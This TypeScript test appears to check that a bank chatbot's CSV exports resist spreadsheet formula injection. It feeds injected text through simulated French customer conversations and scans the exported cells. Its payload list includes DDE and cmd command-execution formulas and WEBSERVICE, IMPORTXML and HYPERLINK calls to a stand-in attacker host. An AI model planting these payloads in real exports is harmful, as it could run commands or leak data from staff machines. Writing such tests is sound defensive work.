import type { Fault, Verdict } from '../fault.js';
import { eachOf, onStage, type Stage } from './stage.js';

/** Beginnings that a spreadsheet takes for a formula, with what an attacker wants of it. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example","cliquez")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '|cmd',
  '%0A=1+1',
  '"=1+1',
  "'=1+1",
  '";=1+1',
  ';=1+1',
  '\n=1+1',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd","/C calc","a")',
  '=1+1;2',
  '\u200b=1+1',
  '\ufeff=1+1',
];
const FILES = ['claims', 'leads', 'handoffs', 'simulations'];

/** What customers write, opened as a spreadsheet by the bank. */
export const csv: Fault = {
  name: 'csv',
  promises: ['P29'],
  claim: 'No cell of an export is a formula, and no text makes a cell or a line of its own.',
  run: () =>
    onStage({}, async (stage): Promise<Verdict> => {
      await eachOf(FORMULAS, 8, (formula, number) => write(stage, formula, number));
      const browser = await stage.staff('admin');
      const breaches: string[] = [];
      let cells = 0;
      let carried = 0;
      for (const file of FILES) {
        const rows = cellsOf(await browser.read(`/dashboard/${file}.csv`));
        const width = rows[0]?.length ?? 0;
        for (const row of rows) {
          if (row.length !== width) breaches.push(`${file}: a line of ${row.length} cells, not ${width}`);
          for (const cell of row) {
            cells += 1;
            if (/1\+1|evil|cmd|SUM/.test(cell)) carried += 1;
            if (/^[\s\u200b\ufeff]*[=+\-@|%＝＋－＠]/.test(cell) && !/^-?\d+(?:[.,]\d+)?$/.test(cell))
              breaches.push(`${file}: ${JSON.stringify(cell.slice(0, 60))}`);
          }
        }
      }
      if (carried < FORMULAS.length / 2)
        breaches.push(`only ${carried} formulas came as far as a file: nothing was tried`);
      return {
        held: breaches.length === 0,
        figure: `${breaches.length} formula cells in ${cells} cells, ${carried} of them with an attacker's text`,
        breaches,
      };
    }),
};

async function write({ client }: Stage, formula: string, number: number): Promise<void> {
  const session = `csv-${number}`;
  const phone = `77 5${String(10 + number)} 00 ${String(10 + number)}`;
  const story = `${formula} le distributeur a avalé ma carte`;
  for (const text of ['je veux faire une réclamation', 'carte', story, 'Awa Ba', phone, 'oui'])
    await client.say({ text, session });
  await client.say({ text: `${formula} je veux parler à un conseiller`, session: `${session}-h` });
  for (const text of ['ouvrir un compte', 'courant', `${formula} Diop`, phone, `${formula}@evil.example`, 'oui'])
    await client.say({ text, session: `${session}-l` });
}

/** RFC 4180 with semicolons. */
function cellsOf(file: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of file
    .replace(/^\ufeff/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^";\r\n]*))(;|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.filter((row) => row.length > 1);
}
